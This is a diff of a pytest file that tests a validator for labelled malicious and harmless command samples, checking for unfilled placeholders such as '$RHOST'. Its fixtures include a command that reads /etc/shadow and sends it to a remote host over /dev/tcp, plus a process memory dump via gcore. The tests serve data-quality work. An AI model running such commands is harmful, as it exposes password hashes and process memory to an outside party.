@@ -67,13 +67,6 @@ def test_errors(sample: Sample, field: str, message: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "category", ["sudo", "T1059.004", "privilege escalation", "Führung", "x" * 100, "a/b:c+d_e-f"]
-)
-def test_other_datasets_may_have_other_categories(category: str) -> None:
-    assert problems([malicious(category=category)]) == ()
-
-
-@pytest.mark.parametrize(
     ("sample", "field", "message"),
     [
         *(
@@ -90,6 +83,7 @@ def test_other_datasets_may_have_other_categories(category: str) -> None:
                 ("gcore $PID", "$PID"),
                 ("docker cp $CONTAINER_ID:x .", "$CONTAINER_ID"),
                 ("ssh <user>@10.0.0.1", "<user>"),
+                ("LFILE=/etc/shadow\ncat $LFILE >/dev/tcp/$RHOST/1", "$RHOST"),
             )
         ),
         *(
@@ -104,12 +98,6 @@ def test_what_is_suspect_is_a_warning(sample: Sample, field: str, message: str) 
     assert problem.message.startswith(message)
 
 
-def test_a_variable_that_the_command_sets_is_no_placeholder() -> None:
-    assert problems([malicious("LFILE=/etc/shadow\ncat $LFILE")]) == ()
-    problem = only([malicious("LFILE=/etc/shadow\ncat $LFILE >/dev/tcp/$RHOST/1")])
-    assert problem.message == "placeholder '$RHOST' was never filled in"
-
-
 @pytest.mark.parametrize(
     "sample",
     [
@@ -118,8 +106,11 @@ def test_a_variable_that_the_command_sets_is_no_placeholder() -> None:
         malicious("kill $PPID"),
         malicious("cat <<EOF\nx\nEOF"),
         malicious("echo $TFA"),
+        malicious("LFILE=/etc/shadow\ncat $LFILE"),
         malicious("devilspie --shackle"),
         harmless("x" * 10_000),
+        *(malicious(category=name) for name in ("sudo", "T1059.004", "privilege escalation")),
+        *(malicious(category=name) for name in ("Führung", "x" * 100, "a/b:c+d_e-f")),
     ],
 )
 def test_what_only_looks_like_a_problem(sample: Sample) -> None:
